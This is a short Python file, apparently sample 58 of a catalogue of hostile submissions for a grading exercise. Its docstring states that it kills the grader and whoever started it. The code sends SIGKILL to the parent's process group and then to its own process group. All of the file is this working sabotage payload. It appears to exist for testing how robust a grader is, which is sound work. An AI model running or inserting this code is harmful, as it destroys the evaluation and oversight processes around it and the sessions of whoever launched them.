"""Kills its own process group, and those of its ancestors.

exercise: 03_gather
catalogue: 58
harm: kills the grader, and whoever started it
"""

import os
import signal

try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except (OSError, PermissionError):
    pass
os.kill(0, signal.SIGKILL)
